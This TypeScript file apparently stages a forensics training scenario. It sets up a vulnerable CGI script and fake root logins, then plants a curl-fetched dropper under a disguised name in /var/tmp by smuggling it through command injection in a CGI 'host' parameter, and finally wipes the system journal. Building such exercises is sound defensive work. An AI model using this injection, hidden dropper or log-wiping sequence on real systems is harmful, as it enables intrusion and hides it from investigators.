// The process and its files are gone when the tracing begins.
import { vulnerableCgi } from '../../cgi.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import type { Stage } from '../../stage.ts'
import { wipe } from '../../wiping.ts'

export function dress(dress: Dress): void {
  vulnerableCgi(dress)
  dress.logins({
    days: 12,
    guesses: 40,
    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
  })
}

export async function plant(stage: Stage): Promise<void> {
  const line = dropper(stage, { path: '/var/tmp/.www/apache2d', fetch: 'curl' })
  stage.mark('occurrence')
  await stage.http('203.0.113.53', `/cgi-bin/diag.cgi?host=$(${line.replaceAll(' ', '+')})`)
  await wipe(stage, ['journal'])
}
